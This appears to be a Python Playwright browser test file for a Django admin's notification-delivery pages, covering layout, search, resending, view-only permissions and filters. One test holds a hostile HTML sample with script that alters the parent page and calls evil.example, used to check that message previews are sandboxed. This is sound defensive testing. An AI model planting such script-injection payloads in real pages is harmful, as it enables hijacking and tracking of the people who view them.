"""The pages of deliveries as people see them: on a desk and on a telephone, light and dark, full and empty."""

import os
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission, User
from playwright.sync_api import Browser, Page, Route, expect

from notifications import services
from notifications.tables import Delivery, Notification
from tests.browser.conftest import PASSWORD, OpenPage
from tests.browser.test_console import LOOKS, assert_nothing_sticks_out, open_filters
from tests.notifications import delivery_specimens as specimens

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

LIST = "/admin/notifications/delivery/"
NOTIFICATIONS = "/admin/notifications/notification/"
EVIL = (
    "<!doctype html><body onload=\"parent.document.title='taken'\"><h1>Hello</h1>"
    '<script>parent.document.title = "taken"; fetch("https://evil.example/script")</script>'
    '<img src="https://evil.example/pixel.png"><link rel="stylesheet" href="https://evil.example/x.css">'
    "<style>body { background: url(https://evil.example/back.png); color: #15803d }</style>"
    '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">'
    '<iframe src="https://evil.example/frame"></iframe><a id="away" href="https://evil.example/link">Away</a>'
)


def sign_in(page: Page, name: str = "ada") -> None:
    page.goto(f"/admin/login/?next={LIST}")
    page.get_by_label("Username").fill(name)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#changelist")).to_be_visible()


def picture(page: Page, name: str) -> None:
    if folder := os.environ.get("LOOK"):
        page.screenshot(path=Path(folder) / f"{name}.png", full_page=True)


def a_busy_day() -> dict[str, Delivery]:
    for number in range(80):
        specimens.aged(specimens.sent(f"Customer {number} <c{number}@example.org>"), timedelta(minutes=7 * number + 9))
    kinds = specimens.all_kinds()
    kinds["sent"].refresh_from_db()
    return kinds


@pytest.mark.parametrize(("width", "dark"), LOOKS)
def test_every_page_of_deliveries_fits_its_window(
    open_page: OpenPage, administrator: User, width: int, dark: bool
) -> None:
    kinds = a_busy_day()
    people = [f"p{number}@example.org" for number in range(40)]
    news = services.notify(people, subject="News of November", html="<h1>News</h1>", category="news", key="news:11")
    news.deliveries.filter(position__lt=30).update(state="sent")
    news.deliveries.filter(position__in=(3, 4)).update(state="bounced")
    page, look = open_page(width=width, dark=dark), f"{width}-{'dark' if dark else 'light'}"
    sign_in(page)

    pages = {
        "list": LIST,
        "found": f"{LIST}?q=nobody@example.org",
        "nothing": f"{LIST}?q=x",
        "window": f"{LIST}?lane=bulk",
    }
    hard = kinds if "LOOK" in os.environ else ("sent", "long", "unicode", "undecided")
    pages |= {name: f"{LIST}{kinds[name].pk}/change/" for name in hard}
    pages |= {"notifications": NOTIFICATIONS, "news": f"{NOTIFICATIONS}{news.pk}/change/"}
    for name, url in pages.items():
        page.goto(url)
        page.wait_for_load_state("networkidle")
        picture(page, f"{look}-{name}")
        assert_nothing_sticks_out(page)


@pytest.mark.parametrize(("width", "dark"), [(1280, False), (360, True)])
def test_lists_without_anything_in_them(open_page: OpenPage, administrator: User, width: int, dark: bool) -> None:
    page = open_page(width=width, dark=dark)
    sign_in(page)

    for name, url in {"empty": LIST, "empty-notifications": NOTIFICATIONS}.items():
        page.goto(url)
        picture(page, f"{width}-{name}")
        assert_nothing_sticks_out(page)


def test_a_hostile_message_is_shown_and_can_do_nothing(
    chromium: Browser, live_server: object, administrator: User
) -> None:
    row = specimens.sent(text="Hello")
    Notification.objects.update(html=EVIL)
    # Chromium complains of each thing that it refuses, so that the page is not one whose complaints fail the test.
    page = chromium.new_context(base_url=str(live_server)).new_page()
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route("https://evil.example/**", note)
    sign_in(page)

    page.goto(f"{LIST}{row.pk}/change/")
    frame = page.frame_locator("iframe.delivery-html")
    expect(frame.get_by_role("heading", name="Hello")).to_be_visible()
    assert frame.locator("body").evaluate("it => getComputedStyle(it).color") == "rgb(21, 128, 61)"
    page.wait_for_load_state("load")
    picture(page, "hostile")

    assert asked == []
    assert page.title() != "taken"
    page.context.close()


def test_it_is_found_sent_again_and_told_who_did(open_page: OpenPage, administrator: User) -> None:
    row = specimens.refused("Nobody <nobody@example.org>")
    page = open_page()
    sign_in(page)

    page.locator("#searchbar").fill("NOBODY@example.org")
    page.keyboard.press("Enter")
    page.get_by_role("link", name="Nobody <nobody@example.org>").click()
    expect(page.get_by_text("refused it for good")).to_be_visible()
    page.get_by_role("button", name="Send again…").click()
    picture(page, "ask")
    page.get_by_role("button", name="Yes, send again").click()

    expect(page.get_by_text("1 is to be sent again.")).to_be_visible()
    expect(page.get_by_role("complementary").get_by_text("To be sent again.")).to_be_visible()
    row.refresh_from_db()
    assert row.state == Delivery.State.PENDING


def test_who_may_only_look_is_offered_nothing(open_page: OpenPage, transactional_db: None) -> None:
    viewer = User.objects.create_user("vera", password=PASSWORD, is_staff=True)
    codes = ("view_delivery", "view_notification")
    viewer.user_permissions.set(Permission.objects.filter(codename__in=codes))
    row = specimens.undecided()
    page = open_page()
    sign_in(page, "vera")

    picture(page, "viewer-list")
    page.goto(f"{LIST}{row.pk}/change/")
    picture(page, "viewer")

    expect(page.get_by_text("It may have been sent")).to_be_visible()
    expect(page.get_by_role("button", name="Send it again…")).to_have_count(0)


def test_filters_of_the_list(open_page: OpenPage, administrator: User) -> None:
    specimens.all_kinds()
    page = open_page()
    sign_in(page)

    open_filters(page)
    page.get_by_role("link", name="undecided", exact=True).click()

    expect(page.get_by_text("asked: may have been sent")).to_be_visible()
    expect(page.get_by_text("nobody@example.org")).to_have_count(0)
